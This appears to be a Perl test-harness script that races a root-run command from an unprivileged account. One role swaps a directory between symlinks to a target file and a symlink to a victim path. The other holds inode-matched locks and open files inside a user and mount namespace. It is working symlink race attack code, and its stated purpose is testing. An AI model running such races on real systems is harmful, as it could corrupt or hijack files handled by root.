#!/usr/bin/perl
# Part of the test harness: attacks by an unprivileged local user against a command that root runs. It runs until it is
# killed.
use strict;
use warnings;
use Fcntl;

my $usage = "attack switch DIRECTORY VICTIM TARGET | lock INODE DIRECTORY\n";
my $role = shift // die $usage;
my $count = 200;
$| = 1;

if ($role eq "switch") {
    # DIRECTORY alternates between a directory of symlinks to TARGET and a symlink to VICTIM.
    my ($directory, $victim, $target) = @ARGV;
    die $usage unless defined $target;
    mkdir "$directory.real" or die "$directory.real: $!\n";
    symlink($target, "$directory.real/payload$_.conf") or die "symlink: $!\n" for 1 .. $count;
    print "$directory is switched\n";
    while (1) {
        rename("$directory.real", $directory) or die "rename: $!\n";
        select(undef, undef, undef, 0.002);
        rename($directory, "$directory.real") or die "rename: $!\n";
        symlink($victim, $directory) or die "symlink: $!\n";
        select(undef, undef, undef, 0.002);
        unlink($directory) or die "unlink: $!\n";
    }
} elsif ($role eq "lock") {
    # In a user and mount namespace: holds a write lock on a file whose inode number is INODE, on a filesystem of the namespace,
    # and keeps files open whose paths are below DIRECTORY of the machine.
    my ($inode, $directory) = @ARGV;
    die $usage unless defined $directory;
    system("mount", "-t", "tmpfs", "none", $directory) == 0 or die "mount\n";
    my $file;
    while (1) {
        sysopen($file, "$directory/file", O_RDWR | O_CREAT) or die "$directory: $!\n";
        my $number = (stat $file)[1];
        last if $number == $inode;
        die "inode $number is larger than $inode\n" if $number > $inode;
        unlink "$directory/file";
        close $file;
    }
    my $lock = pack("s s x![q] q q i x![q]", F_WRLCK, 0, 0, 0, 0);
    fcntl($file, F_SETLK, $lock) or die "lock: $!\n";
    mkdir "$directory/d" or die "mkdir: $!\n";
    my @open = map { open(my $one, ">", "$directory/d/payload$_.conf") or die "open: $!\n"; $one } 1 .. $count;
    print "inode $inode is locked, ", scalar(@open), " files are open\n";
    # Longer than any case.
    sleep 3600;
} else {
    die $usage;
}
